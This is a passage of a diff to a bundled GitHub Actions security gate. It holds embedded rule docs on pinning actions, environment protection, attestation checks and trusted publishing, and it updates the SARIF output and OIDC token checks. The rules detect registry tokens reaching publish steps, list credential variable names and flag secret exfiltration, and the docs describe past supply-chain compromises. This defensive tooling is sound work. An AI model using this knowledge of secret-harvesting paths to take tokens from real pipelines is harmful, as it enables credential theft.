but what the build downloads is not pinned.\\n\\nEach distinct `owner/repo@sha` is fetched once (content at a SHA never changes), requests run\\nconcurrently within a bound, and the job summary shows the resolved tree and the number of API\\nrequests. `release-gate tree <workflow>` prints the same tree.\\n\\n## Why it matters\\n\\nA SHA pin at the top fixes the composite's own files, not what it calls. In March 2025 the\\ntj-actions/changed-files compromise reached workflows through actions that used it by tag,\\namong them workflows that pinned those actions by SHA. No static linter follows these edges.\\n\\n## How to fix\\n\\nUse a version of the action that pins its own dependencies, ask its authors to, or replace it.\\nIf a dependency cannot be pinned (the SLSA generator verifies its own tag), allow it with a\\nreason:\\n\\n```yaml\\nallow:\\n  - uses: slsa-framework/slsa-github-generator/*\\n    reason: verifies its own ref; must be called by tag\\n```\\n\\n## Ignoring\\n\\nOn the top-level `uses:` line:\\n\\n```yaml\\n      - uses: org/a@<sha> # release-gate: ignore[unpinned-transitive-uses] -- vendored fork, reviewed\\n```\\n\",\"unpinned-uses\":\"# unpinned-uses\\n\\nAction or reusable workflow not pinned to a full commit SHA.\\n\\n| | |\\n| --- | --- |\\n| Applies to | workflow steps, job-level reusable-workflow calls, composite action steps |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error |\\n| Configurable | `rules.unpinned-uses.*`, the `allow` input and config list |\\n| Example | [`test/fixtures/workflows/unpinned-uses/positive.yml`](../../test/fixtures/workflows/unpinned-uses/positive.yml) |\\n\\n## What it detects\\n\\nEvery `uses:` that names another repository — `owner/repo@ref`, `owner/repo/path@ref`, or a\\nreusable workflow `owner/repo/.github/workflows/x.yml@ref` — must name a full 40-hex commit SHA.\\nTags (`@v4`), branches (`@main`, `@release/v1`), short SHAs (`@de0fac2`) and expressions\\n(`@${{ inputs.ref }}`) are flagged; the message says which kind of ref it is. A `uses:` that is not\\na valid reference at all (white space, `..` in the path, non-ASCII look-alike characters, no `@`)\\nis flagged too: nobody can say what it runs.\\n\\nNot flagged: local actions and workflows (`./path`, `$/path`), which come from the commit being\\nrun; `docker://` images, which belong to [`unpinned-images`](unpinned-images.md).\\n\\nOnly the publishing job and the jobs it `needs:` are judged (from the CLI without `--job`: every\\npublishing job and what it needs).\\n\\n## Actions that must be referenced by tag\\n\\nThe catalogue knows actions whose own design forbids a SHA pin.\\n`slsa-framework/slsa-github-generator` verifies that it was called by a version tag and fails\\notherwise; the finding says so and gives the `allow:` entry to write, with its reason:\\n\\n```yaml\\nallow:\\n  - uses: slsa-framework/slsa-github-generator/*\\n    reason: verifies its own tag; cannot be SHA-pinned\\n```\\n\\n## Why it matters\\n\\nA tag or branch is a pointer the action's owner — or whoever steals their credentials — can move.\\nIn March 2025 the attacker of `tj-actions/changed-files` moved almost every version tag to a\\ncommit that dumped the runner's memory, secrets included, into the build log; every workflow\\nthat used the action by tag ran it on its next run (CVE-2025-30066). Workflows pinned to a SHA did\\nnot. A full SHA is the only reference that cannot be moved.\\n\\n## How to fix\\n\\nLook up the commit the tag points to and pin to it, keeping the tag as a comment so Dependabot\\nand Renovate can keep it current:\\n\\n```sh\\ngit ls-remote https://github.com/actions/checkout v4.2.2\\n```\\n\\nBefore:\\n\\n```yaml\\n    steps:\\n      - uses: actions/checkout@v4            # ← moves when the tag moves\\n```\\n\\nAfter:\\n\\n```yaml\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\n```\\n\\n## Configuration\\n\\nSome dependencies cannot be pinned: `slsa-framework/slsa-github-generator` verifies that it was\\ncalled by tag. Allow them with a reason, in the action's `allow` input:\\n\\n```yaml\\n      - uses: release-gate/release-gate@<sha>\\n        with:\\n          allow: |\\n            slsa-framework/slsa-github-generator/* -- verifies its own ref; must be called by tag\\n```\\n\\nor in `.github/release-gate.yml`:\\n\\n```yaml\\nallow:\\n  - uses: slsa-framework/slsa-github-generator/*\\n    reason: verifies its own ref; must be called by tag\\n```\\n\\nPatterns: `owner/repo` (also covers its subdirectories), `owner/repo/path`, `owner/*`, with `*`\\nmatching anything; add `@ref` to allow one ref only. Every allowance used is listed in the job\\nsummary. `rules.unpinned-uses.severity` and `rules.unpinned-uses.ignore` work as for every rule.\\n\\n## Ignoring\\n\\nOn the line of the `uses:` or alone on the line above it:\\n\\n```yaml\\n      - uses: actions/checkout@v4 # release-gate: ignore[unpinned-uses] -- pinned by the org ruleset\\n```\\n\\n`# zizmor: ignore[unpinned-uses]` is honoured too.\\n\",\"unprotected-environment\":\"# unprotected-environment\\n\\nDeployment environment without protection.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the environment of the publishing job (from the signed OIDC token when the job has one) |\\n| Needs | the GitHub API (`actions: read` for private repositories); \\\"not checked\\\" when offline |\\n| Default severity | error (warning for administrator bypass) |\\n| Configurable | `rules.unprotected-environment.*` |\\n| Example | [`test/fixtures/workflows/unprotected-environment/positive.yml`](../../test/fixtures/workflows/unprotected-environment/positive.yml) |\\n\\n## What it detects\\n\\nThrough `GET /repos/{o}/{r}/environments/{name}` (and its deployment branch policies):\\n\\n- the environment does not exist — GitHub creates it on first use, with no rules;\\n- it has no required reviewers;\\n- it lets whoever started the run approve it (`prevent_self_review` off);\\n- it has no deployment branch or tag rule, so a workflow on any branch can deploy;\\n- administrators can bypass the rules (**warning**).\\n\\nInside a job that can mint an ID token, the environment is taken from the token's signed\\n`environment` claim, so an `environment: ${{ inputs.env }}` is judged by the one that ran.\\n\\n## Why it matters\\n\\n`environment:` in a workflow protects nothing by itself: the protection is the settings. A\\ntrusted publisher bound to an unprotected environment accepts any workflow run that names it.\\n\\n## How to fix\\n\\nIn Settings › Environments › *name*: add required reviewers, turn on \\\"Prevent self-review\\\",\\nrestrict \\\"Deployment branches and tags\\\" to your release tags (e.g. `v*`), and turn off\\nadministrator bypass.\\n\\n## Ignoring\\n\\n```yaml\\n    environment: release # release-gate: ignore[unprotected-environment] -- reason\\n```\\n\",\"unverified-artifact\":\"# unverified-artifact\\n\\nArtifact without a verified attestation.\\n\\n| | |\\n| --- | --- |\\n| Applies to | the files named by `subject-path` (or unpacked from `artifact-name`) in the job running the gate |\\n| Needs | `gh` 2.67.0 or later on the runner (GitHub-hosted runners ship it); the API unless `bundle` and `custom-trusted-root` are given |\\n| Default severity | error |\\n| Configurable | inputs `subject-path`, `artifact-name`, `artifact-path`, `artifact-max-size`, `signer-workflow`, `predicate-type`, `attestations`, `bundle`, `custom-trusted-root` |\\n| Example | [`test/fixtures/workflows/unverified-artifact/positive.yml`](../../test/fixtures/workflows/unverified-artifact/positive.yml) |\\n\\n## What it detects\\n\\n`subject-path` is read as actions/attest-build-provenance reads it (`@actions/glob`: `*`, `?`,\\n`[…]`, `**`, `!` to exclude, `#` comments, a matched folder takes everything under it, symbolic\\nlinks followed; lines or commas), plus `{a,b}` braces, which `@actions/glob` leaves literal. When\\nnothing matches, the finding says what attest-build-provenance says: \\\"Could not find subject at\\npath …\\\".\\n\\nFor each file matching `subject-path`, release-gate runs\\n\\n```sh\\ngh attestation verify <file> --repo <owner/repo> \\\\\\n  --signer-workflow <owner/repo/.github/workflows/release.yml> \\\\\\n  --source-ref <GITHUB_REF> --source-digest <GITHUB_SHA> \\\\\\n  --deny-self-hosted-runners --predicate-type https://slsa.dev/provenance/v1 --format json\\n```\\n\\nwith the job token in `GH_TOKEN`, parses the JSON, and computes each file's SHA-256 itself. A\\nfile fails when gh exits non-zero (the message quotes gh's own error line), when the JSON holds\\nno verification result, or when the verified statement's subject digest is not the file's.\\n**No file matching the pattern fails too**: an empty match must not pass. A missing `gh`, or\\none older than 2.67.0, is a `check-failed` finding that says how to fix it.\\n\\nWith `artifact-name`, the artifact of the current run is downloaded first\\n(`GET /repos/{o}/{r}/actions/runs/{run_id}/artifacts`, then the archive, unpacked with limits\\non size and paths), so the gate can stay the first step of the publishing job.\\n\\n## Why it matters\\n\\n`gh attestation verify --repo owner/repo` alone accepts an attestation from **any** workflow on\\n**any** ref of the repository — a feature branch's workflow, or one a contributor added. And\\ngh before 2.67.0 exited 0 when no attestation matched the predicate type (cli/cli#10418,\\nGO-2025-3467), so a pipeline that checked only the exit code passed unattested files. SPEC 8\\nasks release workflows to attest what they build and verify it before publishing.\\n\\n## How to fix\\n\\nAttest in the build job, verify in the publishing job:\\n\\n```yaml\\n  build:\\n    permissions:\\n      id-token: write\\n      attestations: write\\n    steps:\\n      - run: python -m build\\n      - uses: actions/attest-build-provenance@<sha> # v3\\n        with:\\n          subject-path: dist/*\\n      - uses: actions/upload-artifact@<sha> # v4\\n        with: { name: dist, path: dist/ }\\n  publish:\\n    needs: [build]\\n    permissions:\\n      id-token: write\\n      actions: read\\n    steps:\\n      - uses: release-gate/release-gate@<sha> # v0.1.0\\n        with:\\n          artifact-name: dist\\n      - uses: pypa/gh-action-pypi-publish@<sha> # v1.13.0\\n```\\n\\n## Ignoring\\n\\nTurn verification off knowingly with `attestations: off`; a finding of this rule can also be\\nignored by config (`rules.unverified-artifact.disable`), never silently.\\n\",\"use-trusted-publishing\":\"# use-trusted-publishing\\n\\nLong-lived registry token used to publish.\\n\\n| | |\\n| --- | --- |\\n| Applies to | steps of the publishing job and the jobs it needs; reusable-workflow calls |\\n| Needs | the workflow file only (offline) |\\n| Default severity | error |\\n| Configurable | `rules.use-trusted-publishing.*` |\\n| Example | [`test/fixtures/workflows/use-trusted-publishing/positive.yml`](../../test/fixtures/workflows/use-trusted-publishing/positive.yml) |\\n\\n## What it detects\\n\\nA stored credential reaching a publish step of a registry that offers trusted publishing\\n(PyPI, npm, crates.io, RubyGems, NuGet), **whatever `id-token` says** — a job can hold\\n`id-token: write` for provenance and still publish with a token:\\n\\n- `password:` of `pypa/gh-action-pypi-publish` (to PyPI or TestPyPI);\\n- `TWINE_PASSWORD`, `UV_PUBLISH_TOKEN`, `NODE_AUTH_TOKEN`, `NPM_TOKEN`,\\n  `CARGO_REGISTRY_TOKEN`, `GEM_HOST_API_KEY`, `NUGET_API_KEY` (and kin) bound to\\n  `secrets.*` at workflow, job or step level, reaching a step that publishes;\\n- `--token`, `-p`, `--password`, `--api-key` flags of publish commands fed from `secrets.*`\\n  or from a variable bound to one; an `_authToken=` written into `.npmrc`;\\n- `rubygems/release-gem` with `setup-trusted-publisher: false`,\\n  `rubygems/configure-rubygems-credentials` with `api-token`;\\n- a registry token passed to a reusable workflow (`secrets: { pypi_token: … }`).\\n\\nNot flagged: OIDC-only publishing (no credential); `secrets.GITHUB_TOKEN` (it expires with\\nthe job); credentials for indexes without trusted publishing (`repository-url` of a private\\nindex, `setup-node` pointed at GitHub Packages, Docker Hub).\\n\\nIt also follows a token into a credentials file written for a later step (`~/.pypirc`,\\n`~/.gem/credentials`, cargo's credentials, `.npmrc` lines and `npm config set\\n//registry/:_authToken …`), reads `with:` inputs as the runner does (`PASSWORD:` is\\n`password:`), and warns when a registry token is handed to a step it cannot read (an action\\nthe catalogue does not know, a `docker://` image): that step may publish with it, or send it\\nanywhere. A credential variable set inside the script (`export UV_PUBLISH_TOKEN=${{ secrets.X }}`)\\ncounts like one set in `env:`. `docker/login-action` with a stored password in a job that\\npushes images: an error for registries that take the job's OIDC token (Amazon ECR, Google\\nArtifact Registry, Azure Container Registry, GHCR), a warning for Docker Hub (the catalogue's\\n`CONTAINER_REGISTRIES`).\\n\\n## Why it matters\\n\\nRegistry tokens stored as CI secrets are what attackers harvest: the GhostAction campaign\\n(September 2025) exfiltrated 3,325 secrets, PyPI and npm tokens among them, from 817\\nrepositories. A trusted-publishing token is minted per job, bound to the repository, workflow\\nand environment, and expires in minutes.\\n\\n## How to fix\\n\\nBefore:\\n\\n```yaml\\n      - uses: pypa/gh-action-pypi-publish@<sha> # v1.13.0\\n        with:\\n          password: ${{ secrets.PYPI_API_TOKEN }}\\n```\\n\\nAfter:\\n\\n```yaml\\n    environment: pypi\\n    permissions:\\n      id-token: write\\n    steps:\\n      - uses: pypa/gh-action-pypi-publish@<sha> # v1.13.0\\n```\\n\\nAdd the trusted publisher on the registry (repository, workflow file, environment), then\\ndelete the secret and revoke the token.\\n\\n## Ignoring\\n\\n```yaml\\n          password: ${{ secrets.MIRROR_TOKEN }} # release-gate: ignore[use-trusted-publishing] -- internal mirror, no OIDC\\n```\\n\"}";
+let docs;
+/** docs/rules/<id>.md by rule id. */
+function ruleDocs() {
+    return (docs ??= JSON.parse(RAW));
+}
+
 ;// CONCATENATED MODULE: ./src/report/sarif.ts
-/** SARIF 2.1.0, for code scanning and other viewers. */
+/**
+ * SARIF 2.1.0, shaped for GitHub code scanning: each rule carries its documentation
+ * (`fullDescription`, `help.text`, `help.markdown` from docs/rules/, embedded at build time),
+ * `properties.tags` with `security` and a `security-severity` score (code scanning's severity:
+ * 9.0+ critical, 7.0–8.9 high, 4.0–6.9 medium, below low); results carry fingerprints that do not
+ * depend on line or step position, and URIs relative to the repository root.
+ */
+
+
+
 
 
 
 const LEVEL = { error: 'error', warning: 'warning', note: 'note' };
-function fingerprint(f) {
+/** Code scanning's security-severity by default severity, with the rules whose finding means compromise raised. */
+const SECURITY_SEVERITY = { error: '8.0', warning: '5.0', note: '2.0' };
+const CRITICAL = new Set(['impostor-commit', 'integrity-mismatch', 'secret-exfiltration', 'known-vulnerable-actions']);
+/** The tags code scanning filters on; every rule is a security rule of the CI/CD supply chain. */
+function tagsOf(id) {
+    const extra = /pin|lock|impostor|integrity|vulnerable|ref-version|images/.test(id)
+        ? ['supply-chain']
+        : /permission|secret|environment|publishing|runner|artipacked/.test(id)
+            ? ['least-privilege']
+            : [];
+    return ['security', 'github-actions', ...extra];
+}
+/** The one-line description under the title of docs/rules/<id>.md. */
+function summaryOf(doc) {
+    if (!doc)
+        return undefined;
+    const para = doc.replace(/^# .*\n+/, '').split(/\n\s*\n/)[0]?.trim();
+    return para && !para.startsWith('|') ? para.replace(/\s*\n\s*/g, ' ') : undefined;
+}
+/** Markdown with relative links made absolute (code scanning shows it outside the repository). */
+function absoluteLinks(md, docsBase) {
+    const base = docsBase.replace(/\/+$/, '');
+    return md.replace(/\]\((?!https?:|#|mailto:)([^)\s]+)\)/g, (_m, target) => {
+        try {
+            return `](${new URL(target, `${base}/`).toString()})`;
+        }
+        catch {
+            return `](${target})`;
+        }
+    });
+}
+/** A plain-text reading of the Markdown doc: headings, emphasis and link targets dropped. */
+function sarif_plain(md) {
+    return md
+        .replace(/^#+\s*/gm, '')
+        .replace(/\[([^\]]*)\]\([^)]*\)/g, '$1')
+        .replace(/\*\*([^*]+)\*\*/g, '$1')
+        .replace(/`([^`]+)`/g, '$1')
+        .trim();
+}
+/**
+ * What makes a finding the same alert from one run to the next: rule, file, job, the step's
+ * id or name (not its position), and what it is about. Inserting a step or lines elsewhere
+ * does not change it; `n` tells identical findings apart by order.
+ */
+function fingerprint(f, n) {
     return (0,external_node_crypto_.createHash)('sha256')
-        .update([f.rule, f.file, f.job ?? '', f.step?.index ?? '', f.subject ?? f.message].join('\u0000'))
+        .update([f.rule, uriOf(f.file), f.job ?? '', f.step?.id ?? f.step?.name ?? '', f.subject ?? f.message, String(n)].join('\u0000'))
         .digest('hex')
         .slice(0, 32);
+}
+const rootMemo = new Map();
+/** The repository root of a file on disk: the nearest folder holding `.git`, else the parent of a `.github` folder on the path. */
+function repoRoot(abs) {
+    const start = (0,external_node_path_namespaceObject.dirname)(abs);
+    if (rootMemo.has(start))
+        return rootMemo.get(start);
+    let root;
+    for (let d = start;; d = (0,external_node_path_namespaceObject.dirname)(d)) {
+        if ((0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.resolve)(d, '.git'))) {
+            root = d;
+            break;
+        }
+        if ((0,external_node_path_namespaceObject.dirname)(d) === d)
+            break;
+    }
+    if (!root) {
+        const i = abs.lastIndexOf(`${external_node_path_namespaceObject.sep}.github${external_node_path_namespaceObject.sep}`);
+        if (i >= 0)
+            root = abs.slice(0, i) || external_node_path_namespaceObject.sep;
+    }
+    rootMemo.set(start, root);
+    return root;
+}
+/** A finding's file as code scanning wants it: `/`-separated, relative to the repository root. */
+function uriOf(file, cwd = process.cwd()) {
+    const abs = (0,external_node_path_namespaceObject.isAbsolute)(file) ? file : (0,external_node_path_namespaceObject.resolve)(cwd, file);
+    if ((0,external_node_fs_namespaceObject.existsSync)(abs) || (0,external_node_path_namespaceObject.isAbsolute)(file)) {
+        const root = repoRoot(abs);
+        if (root)
+            return (0,external_node_path_namespaceObject.relative)(root, abs).split(external_node_path_namespaceObject.sep).join('/');
+    }
+    return file.replace(/\\/g, '/').replace(/^(\.\/)+/, '');
 }
 function toSarif(r, docsBase) {
     const descriptors = [
@@ -38153,6 +43017,15 @@ function toSarif(r, docsBase) {
         ...ENGINE_IDS.map((id) => ({ id, title: 'ignore comment without a reason', severity: 'warning' })),
     ];
     const index = new Map(descriptors.map((d, i) => [d.id, i]));
+    const seen = new Map();
+    const sorted = [...r.findings].sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column));
+    const nth = new Map();
+    for (const f of sorted) {
+        const k = [f.rule, f.file, f.job ?? '', f.step?.id ?? f.step?.name ?? '', f.subject ?? f.message].join('\u0000');
+        const n = seen.get(k) ?? 0;
+        seen.set(k, n + 1);
+        nth.set(f, n);
+    }
     const sarif = {
         $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
         version: '2.1.0',
@@ -38163,13 +43036,25 @@ function toSarif(r, docsBase) {
                         name: 'release-gate',
                         version: VERSION,
                         informationUri: docsBase.replace(/\/docs\/rules\/?$/, ''),
-                        rules: descriptors.map((d) => ({
-                            id: d.id,
-                            name: d.id.replace(/(^|-)(\w)/g, (_m, _d, c) => c.toUpperCase()),
-                            shortDescription: { text: d.title },
-                            helpUri: docsUrl(docsBase, d.id),
-                            defaultConfiguration: { level: LEVEL[d.severity] },
-                        })),
+                        rules: descriptors.map((d) => {
+                            const doc = ruleDocs()[d.id];
+                            const md = doc ? absoluteLinks(doc, docsBase) : `# ${d.id}\n\n${d.title}.\n\nSee ${docsUrl(docsBase, d.id)}.`;
+                            return {
+                                id: d.id,
+                                name: d.id.replace(/(^|-)(\w)/g, (_m, _d, c) => c.toUpperCase()),
+                                shortDescription: { text: d.title },
+                                fullDescription: { text: summaryOf(doc) ?? `${d.title}.` },
+                                help: { text: sarif_plain(md), markdown: md },
+                                helpUri: docsUrl(docsBase, d.id),
+                                defaultConfiguration: { level: LEVEL[d.severity] },
+                                properties: {
+                                    tags: tagsOf(d.id),
+                                    precision: 'high',
+                                    'security-severity': CRITICAL.has(d.id) ? '9.0' : SECURITY_SEVERITY[d.severity],
+                                    'problem.severity': d.severity === 'note' ? 'recommendation' : d.severity,
+                                },
+                            };
+                        }),
                     },
                 },
                 results: r.findings.map((f) => ({
@@ -38180,12 +43065,12 @@ function toSarif(r, docsBase) {
                     locations: [
                         {
                             physicalLocation: {
-                                artifactLocation: { uri: f.file.replace(/\\/g, '/').replace(/^\.\//, '') },
-                                region: { startLine: f.line, startColumn: f.column },
+                                artifactLocation: { uri: uriOf(f.file) },
+                                region: { startLine: Math.max(1, f.line), startColumn: Math.max(1, f.column) },
                             },
                         },
                     ],
-                    partialFingerprints: { 'releaseGate/v1': fingerprint(f) },
+                    partialFingerprints: { 'releaseGate/v2': fingerprint(f, nth.get(f) ?? 0) },
                     properties: { blocking: f.blocking, ...(f.job ? { job: f.job } : {}), ...(f.chain.length ? { chain: f.chain } : {}) },
                     ...(f.ignored
                         ? { suppressions: [{ kind: f.ignored.by === 'comment' ? 'inSource' : 'external', justification: f.ignored.reason }] }
@@ -38236,15 +43121,22 @@ async function writeReportFiles(dir, r, docsBase, extra = {}) {
 
 
 
+
+
 /** Docs links point at the gate's own copy of its docs, at the ref the workflow uses. */
 function docsBaseFor(ctx) {
     if (ctx.actionRepository && ctx.actionRef)
         return `${ctx.serverUrl}/${ctx.actionRepository}/blob/${ctx.actionRef}/docs/rules`;
     return DEFAULT_DOCS_BASE;
 }
-async function run() {
+/** Rules the `verify` sub-action runs. */
+const VERIFY_RULES = ['unverified-artifact', 'check-failed'];
+async function run(mode = 'full') {
     try {
-        const settings = readSettings({ get: (name) => getInput(name) });
+        if (mode === 'verify' && !getInput('subject-path').trim() && !getInput('artifact-name').trim()) {
+            throw new Error("release-gate/verify needs 'subject-path' or 'artifact-name': the files to verify");
+        }
+        const settings = readSettings({ get: (name) => (mode === 'verify' && name === 'attestations' ? 'required' : mode === 'audit' && name === 'attestations' ? 'off' : getInput(name)) });
         if (settings.token)
             core_setSecret(settings.token);
         const ctx = readRunContext();
@@ -38265,12 +43157,15 @@ async function run() {
         const wr = ctx.workflowRef;
         const at = ctx.workflowSha ?? ctx.sha;
         const reader = api && wr && at ? apiReader(api, wr.owner, wr.repo, at) : ctx.workspace ? fsReader(ctx.workspace, (p) => p, 'the workspace') : undefined;
-        if (reader && wr) {
+        if (reader && wr && mode !== 'verify') {
             const locks = await readLocks(reader, wr.path, settings.requireLock);
             loaded.target.lock = locks.facts;
             loaded.target.failures.push(...locks.failures);
         }
-        if (api && loaded.target.workflow) {
+        if (mode === 'verify') {
+            loaded.target.offlineReason = 'verify: only attestations are checked';
+        }
+        else if (api && loaded.target.workflow) {
             const cache = ctx.runnerEnvironment === 'github-hosted' && process.env.RUNNER_TOOL_CACHE ? new ShaCache((0,external_node_path_namespaceObject.join)(process.env.RUNNER_TOOL_CACHE, 'release-gate', 'by-sha')) : undefined;
             const [owner, repo] = (ctx.repository ?? `${ctx.workflowRef?.owner}/${ctx.workflowRef?.repo}`).split('/');
             await goOnline(loaded.target, { api, ...(cache ? { cache } : {}), repository: { owner, repo }, ...(id.token?.claims.environment ? { environment: id.token.claims.environment } : {}), ...(loaded.target.lock ? { lock: loaded.target.lock } : {}) });
@@ -38280,7 +43175,9 @@ async function run() {
             loaded.target.offlineReason = 'offline: true: transitive dependencies, impostor commits, version comments, environment protection and advisories were not checked';
         }
         const root = actionsRoot(process.env);
-        if (root && loaded.target.resolved && ctx.job) {
+        if (mode === 'verify')
+            loaded.target.integrityReason = 'verify: only attestations are checked';
+        else if (root && loaded.target.resolved && ctx.job) {
             const integ = await checkJobIntegrity(loaded.target.resolved, ctx.job, root, loaded.target.lock, api);
             loaded.target.integrity = integ.results;
             loaded.target.failures.push(...integ.failures);
@@ -38310,7 +43207,7 @@ async function run() {
         const docsBase = docsBaseFor(ctx);
         const opts = {
             failOn: settings.failOn,
-            disabled: settings.disabled,
+            disabled: mode === 'verify' ? [...RULE_IDS.filter((id) => !VERIFY_RULES.includes(id)), 'ignore-without-reason'] : settings.disabled,
             config: loaded.config,
             allow: [...settings.allow, ...loaded.config.allow],
             docsBase,
@@ -38319,9 +43216,15 @@ async function run() {
                 ...(id.token?.claims.environment ? { environment: id.token.claims.environment } : {}),
                 ...(ctx.actionRepository ? { gateRepository: ctx.actionRepository } : {}),
                 ...(ctx.eventName ? { eventName: ctx.eventName } : {}),
+                ...(ctx.upstreamEvent ? { upstreamEvent: ctx.upstreamEvent } : {}),
             },
         };
         const report = buildReport([auditTarget(loaded.target, opts)], loaded.skipped, opts);
+        if (mode === 'verify') {
+            // the verify action checks attestations only: the rules it leaves to the audit are not "turned off"
+            report.disabled = settings.disabled;
+            report.skipped = report.skipped.filter((x) => VERIFY_RULES.includes(x.check) || !RULE_IDS.includes(x.check));
+        }
         startGroup('release-gate: report');
         const { list, omitted } = annotations(report);
         for (const a of list) {
@@ -38337,21 +43240,27 @@ async function run() {
             notice(`${omitted} more findings: see the job summary or the JSON report`);
         const facts = api ? [`GitHub API requests: ${api.requests}`] : ['offline: no GitHub API requests'];
         if (id.token)
-            facts.push(`job claims from the OIDC token (${id.token.verified ? 'signature verified' : 'signature not verified'}): job_workflow_ref ${String(id.token.claims.job_workflow_ref)}, environment ${String(id.token.claims.environment ?? 'none')}, runner ${String(id.token.claims.runner_environment)}`);
+            facts.push(`job claims from the OIDC token (signature verified): job_workflow_ref ${String(id.token.claims.job_workflow_ref)}, environment ${String(id.token.claims.environment ?? 'none')}, runner ${String(id.token.claims.runner_environment)}`);
         const tree = loaded.target.resolved ? renderTree(loaded.target.resolved, `${loaded.target.file} › ${ctx.job ?? ''}`) : undefined;
-        await summary
-            .addRaw(renderSummary(report, {
-            ...(ctx.workflowRefRaw ? { workflowRef: ctx.workflowRefRaw } : {}),
-            ...(ctx.workflowSha ? { sha: ctx.workflowSha } : {}),
-            ...(ctx.job ? { job: ctx.job } : {}),
-            ...(ctx.eventName ? { event: ctx.eventName } : {}),
-            ...(ctx.runnerEnvironment ? { runner: ctx.runnerEnvironment } : {}),
-            sources: loaded.sources,
-            facts,
-            ...(tree ? { tree } : {}),
-            ...(loaded.target.attest && loaded.target.attest.mode !== 'off' ? { attest: loaded.target.attest } : {}),
-        }))
-            .write();
+        if (settings.summary !== 'off') {
+            const linkRepo = ctx.workflowRef ? `${ctx.workflowRef.owner}/${ctx.workflowRef.repo}` : ctx.repository;
+            const linkSha = ctx.workflowSha ?? ctx.sha;
+            await summary
+                .addRaw(renderSummary(report, {
+                ...(ctx.workflowRefRaw ? { workflowRef: ctx.workflowRefRaw } : {}),
+                ...(ctx.workflowSha ? { sha: ctx.workflowSha } : {}),
+                ...(ctx.job ? { job: ctx.job } : {}),
+                ...(ctx.eventName ? { event: ctx.eventName } : {}),
+                ...(ctx.runnerEnvironment ? { runner: ctx.runnerEnvironment } : {}),
+                sources: loaded.sources,
+                facts,
+                ...(tree ? { tree } : {}),
+                ...(loaded.target.attest && loaded.target.attest.mode !== 'off' ? { attest: loaded.target.attest } : {}),
+                ...(linkRepo && linkSha ? { links: { server: ctx.serverUrl, repo: linkRepo, sha: linkSha, ...(ctx.repository ? { environments: ctx.repository } : {}) } } : {}),
+                mode: settings.summary,
+            }))
+                .write();
+        }
         const dir = (0,external_node_path_namespaceObject.join)(ctx.runnerTemp ?? (0,external_node_os_namespaceObject.tmpdir)(), 'release-gate');
         const files = await writeReportFiles(dir, report, docsBase);
         setOutput('verdict', report.verdict);
@@ -38360,8 +43269,9 @@ async function run() {
         setOutput('sarif', files.sarif);
         endGroup();
         if (report.verdict === 'fail') {
-            const first = report.findings.find((f) => f.blocking);
-            setFailed(`release-gate blocked the release: ${report.counts.blocking} blocking finding${report.counts.blocking === 1 ? '' : 's'}, first ${first.rule} at ${first.file}:${first.line} (see the job summary)`);
+            const blocking = report.findings.filter((f) => f.blocking);
+            const first = groupByRule(blocking.filter((f) => f.rule !== 'check-failed'))[0]?.findings[0] ?? blocking[0];
+            setFailed(`release-gate blocked the release: ${report.counts.blocking} blocking finding${report.counts.blocking === 1 ? '' : 's'}, most urgent ${first.rule} at ${first.file}:${first.line} (see the job summary)`);
         }
         else {
             info(`release-gate: pass (${report.findings.filter((f) => !f.ignored).length} non-blocking findings)`);
@@ -38373,19 +43283,21 @@ async function run() {
 }
 /**
  * Read the job's signed claims when it can mint an ID token, and let them override what the
- * environment says: the file defining the job, the runner kind, the environment.
+ * environment says: the file defining the job, the runner kind, the environment. Claims are
+ * used only when they verify against the pinned issuer; a forged request URL or a token that
+ * does not verify blocks (tampering), a token that cannot be minted leaves GITHUB_* in force.
  */
 async function readIdToken(ctx, online) {
     if (!online || !process.env.ACTIONS_ID_TOKEN_REQUEST_URL)
         return {};
     let token;
     try {
-        token = await mintIdToken(process.env);
+        token = await mintIdToken(process.env, { serverUrl: ctx.serverUrl, ...(ctx.repository ? { repository: ctx.repository } : {}), ...(ctx.sha ? { sha: ctx.sha } : {}) });
     }
     catch (e) {
         const msg = e instanceof Error ? e.message : String(e);
-        if (/does not verify|audience|expired/.test(msg))
-            return { failure: { check: 'read the job\'s signed claims', reason: msg, fix: 'Re-run the job; if it repeats, the runner is not to be trusted.' } };
+        if (e instanceof TamperError)
+            return { failure: { check: "read the job's signed claims", reason: `${msg}: the job's OIDC token or its request variables were tampered with`, fix: 'Do not publish from this run. Remove any `ACTIONS_ID_TOKEN_REQUEST_*` from the workflow\'s `env:`; if it repeats on a clean workflow, the runner is not to be trusted.' } };
         return { note: `could not mint an ID token (${msg}); GITHUB_* variables were used` };
     }
     if (!token)
@@ -38406,7 +43318,7 @@ async function readIdToken(ctx, online) {
         ctx.eventName = c.event_name;
     if (typeof c.ref === 'string')
         ctx.ref = c.ref;
-    return { token, ...(token.verified ? {} : { note: `the ID token's signature was not checked (${token.note}); its claims were used` }) };
+    return { token };
 }
 
 
@@ -47306,6 +52218,36 @@ exports.visitAsync = visitAsync;
 /******/ 	};
 /******/ })();
 /******/ 
+/******/ /* webpack/runtime/create fake namespace object */
+/******/ (() => {
+/******/ 	var getProto = Object.getPrototypeOf ? (obj) => (Object.getPrototypeOf(obj)) : (obj) => (obj.__proto__);
+/******/ 	var leafPrototypes;
+/******/ 	// create a fake namespace object
+/******/ 	// mode & 1: value is a module id, require it
+/******/ 	// mode & 2: merge all properties of value into the ns
+/******/ 	// mode & 4: return value when already ns object
+/******/ 	// mode & 16: return value when it's Promise-like
+/******/ 	// mode & 8|1: behave like require
+/******/ 	__nccwpck_require__.t = function(value, mode) {
+/******/ 		if(mode & 1) value = this(value);
+/******/ 		if(mode & 8) return value;
+/******/ 		if(typeof value === 'object' && value) {
+/******/ 			if((mode & 4) && value.__esModule) return value;
+/******/ 			if((mode & 16) && typeof value.then === 'function') return value;
+/******/ 		}
+/******/ 		var ns = Object.create(null);
+/******/ 		__nccwpck_require__.r(ns);
+/******/ 		var def = {};
+/******/ 		leafPrototypes = leafPrototypes || [null, getProto({}), getProto([]), getProto(getProto)];
+/******/ 		for(var current = mode & 2 && value; typeof current == 'object' && !~leafPrototypes.indexOf(current); current = getProto(current)) {
+/******/ 			Object.getOwnPropertyNames(current).forEach((key) => (def[key] = () => (value[key])));
+/******/ 		}
+/******/ 		def['default'] = () => (value);
